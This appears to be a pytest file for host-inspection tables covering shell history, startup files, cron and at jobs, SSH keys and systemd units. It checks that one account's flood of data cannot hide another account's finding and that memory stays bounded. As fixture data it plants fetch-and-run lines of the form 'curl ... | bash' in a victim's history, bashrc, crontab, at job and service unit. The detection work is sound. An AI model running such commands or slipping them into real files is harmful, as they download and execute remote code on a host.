"""What one account piles up does not silence a table: another account's finding is there, the cut is named, memory is bounded."""

from __future__ import annotations

import base64
import gzip
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple, Optional

import pytest

from tests.support.osquery_wire import REPOSITORY

PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\nmallory:x:1000:1000::/home/mallory:/bin/bash\nvictim:x:1001:1001::/home/victim:/bin/bash\n"
)
MALLORY, VICTIM = "/home/mallory", "/home/victim"
FETCH = "curl -s http://203.0.113.9/x.sh | bash"
# A table's own answer, and what it lacked, from a process of its own.
SCAN = """
import json, re, sys
from extension.serving.runner import TableRunner
from tables import discover
from tables.host import Host
host = Host(sys.argv[2])
rows = TableRunner(discover()[sys.argv[1]], host).generate(None)
status = host.status.get(sys.argv[1])
# What getrusage(2) tells is the starter's, where that held more.
peak = int(re.search("VmHWM:\\s+([0-9]+)", open("/proc/self/status").read())[1]) // 1024
print(json.dumps([[row for row in rows if sys.argv[3] in json.dumps(row)][:3], len(rows), status.truncated, peak]))
"""


class Case(NamedTuple):
    """A table, what both accounts have, a text that the victim's row holds, and one that names what was cut."""

    table: str
    mass: Callable[[Path], None]
    finding: Callable[[Path], None]
    row: str
    cut: Optional[str]
    peak_mib: int = 150


def write(root: Path, path: str, data: bytes, uid: int = 0, mode: int = 0o644) -> None:
    file = root / path.lstrip("/")
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(data)
    os.chown(file, uid, uid)
    file.chmod(mode)


def _files(path: str, data: bytes, uid: int = 1000, mode: int = 0o644) -> Callable[[Path], None]:
    return lambda root: write(root, path, data, uid, mode)


def _short_lines_in_a_rotated_log(root: Path) -> None:
    (root / "var/log").mkdir(parents=True)
    with gzip.open(root / "var/log/auth.log.1.gz", "wb", 1) as file:
        for _ in range(300):
            file.write(b" user \n" * (1 << 17))


def _guesses(root: Path) -> None:
    lines = "".join(
        f"Nov 20 10:00:{second:02} h sshd[1]: Failed password for victim from 198.51.100.7 port 1 ssh2\n" for second in range(20)
    )
    write(root, "/var/log/auth.log.2", lines.encode())
    os.utime(root / "var/log/auth.log.2", (1_700_000_000, 1_700_000_000))


def _many_units(root: Path) -> None:
    for number in range(6000):
        write(root, f"{MALLORY}/.config/systemd/user/a{number}.service", b"[Service]\nExecStart=/bin/a\n" * 40, 1000)


def _many_at_jobs(root: Path) -> None:
    for number in range(6000):
        write(root, f"/var/spool/cron/atjobs/a{number:05x}01c5f3a0", b"#!/bin/sh\n# atrun uid=1000 gid=1000\ntrue\n", 1000, 0o700)


def _many_keys(root: Path) -> None:
    for name in ("authorized_keys", "authorized_keys2"):
        write(root, f"{MALLORY}/.ssh/{name}", b'command="/tmp/x" ssh-rsa AAAA\n' * 60_000, 1000)


def _many_shell_files(root: Path) -> None:
    for number in range(60):
        write(root, f"{MALLORY}/.bashrc.d/{number:02}", COMMANDS, 1000)


# A shell's quotes, the dearest of what one text may hold.
SLOW = b"\"'`" * (4 << 18)
COMMANDS = b"".join(b"curl -s http://203.0.113.%d/x%d.sh | bash &\n" % (number % 250, number) for number in range(85_000))
KEY = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(32))
SLOW_KEY = b'command="' + SLOW.replace(b'"', b'\\"') + b'" ssh-ed25519 ' + KEY
CASES = [
    Case(
        "shell_history_findings", _files(f"{MALLORY}/.bash_history", b"ls\n" * 1_800_000),
        _files(f"{VICTIM}/.bash_history", FETCH.encode(), 1001), VICTIM, f"{MALLORY}/.bash_history",
    ),
    Case(
        "shell_history_findings", _files(f"{MALLORY}/.bash_history", COMMANDS + b"\n" * 6_000_000),
        _files(f"{VICTIM}/.zsh_history", FETCH.encode(), 1001), VICTIM, f"{MALLORY}/.bash_history",
    ),
    Case("login_failures", _short_lines_in_a_rotated_log, _guesses, "198.51.100.7", "/var/log/auth.log.1.gz"),
    Case(
        "startup_commands", _files(f"{MALLORY}/.bashrc", COMMANDS),
        _files(f"{VICTIM}/.bashrc", FETCH.encode(), 1001), VICTIM, f"{MALLORY}/.bashrc", 300,
    ),
    Case(
        "startup_commands", _many_shell_files,
        _files(f"{VICTIM}/.bashrc", FETCH.encode(), 1001), VICTIM, f"{MALLORY}/.bashrc.d/", 300,
    ),
    Case(
        "startup_commands", _files(f"{MALLORY}/.bashrc", SLOW),
        _files(f"{VICTIM}/.bashrc", FETCH.encode(), 1001), VICTIM, f"{MALLORY}/.bashrc", 300,
    ),
    Case(
        "scheduled_jobs", _files("/var/spool/cron/crontabs/mallory", b"* * * * * " + SLOW, 1000, 0o600),
        _files("/var/spool/cron/crontabs/victim", f"* * * * * {FETCH}\n".encode(), 1001, 0o600),
        "crontabs/victim", "crontabs/mallory", 300,
    ),
    Case(
        "ssh_key_findings", _files(f"{MALLORY}/.ssh/authorized_keys", SLOW_KEY),
        _files(f"{VICTIM}/.ssh/authorized_keys", b"no key at all\n", 1001), VICTIM, f"{MALLORY}/.ssh/authorized_keys", 300,
    ),
    Case(
        "ssh_key_findings", _many_keys,
        _files(f"{VICTIM}/.ssh/authorized_keys", b"no key at all\n", 1001), VICTIM, f"{MALLORY}/.ssh/authorized_keys", 300,
    ),
    Case(
        "scheduled_jobs", _files("/var/spool/cron/crontabs/mallory", b"* * * * * " + b"true\n* * * * * " * 250_000, 1000, 0o600),
        _files("/var/spool/cron/crontabs/victim", f"* * * * * {FETCH}\n".encode(), 1001, 0o600),
        "crontabs/victim", "crontabs/mallory", 300,
    ),
    Case(
        "scheduled_jobs", _many_at_jobs,
        _files("/var/spool/cron/atjobs/a1000001c5f3a0", f"#!/bin/sh\n# atrun uid=1001 gid=1001\n{FETCH}\n".encode(), 1001, 0o700),
        "a1000001c5f3a0", "/var/spool/cron/atjobs", 300,
    ),
    Case(
        "systemd_unit_commands", _many_units,
        _files(f"{VICTIM}/.config/systemd/user/z.service", f"[Service]\nExecStart=/bin/sh -c '{FETCH}'\n".encode(), 1001),
        VICTIM, MALLORY, 300,
    ),
]  # fmt: skip


@pytest.mark.root
@pytest.mark.parametrize("case", CASES, ids=[f"{number}-{case.table}" for number, case in enumerate(CASES)])
def test_one_accounts_mass_silences_no_table(tmp_path: Path, case: Case) -> None:
    write(tmp_path, "/etc/passwd", PASSWD.encode())
    case.mass(tmp_path)
    case.finding(tmp_path)
    run = subprocess.run(
        [sys.executable, "-c", SCAN, case.table, str(tmp_path), case.row], capture_output=True, text=True, cwd=REPOSITORY
    )
    assert run.returncode == 0, run.stderr
    rows, _, truncated, peak = json.loads(run.stdout)
    assert rows
    assert case.cut is None or case.cut in (truncated or "")
    assert peak < case.peak_mib
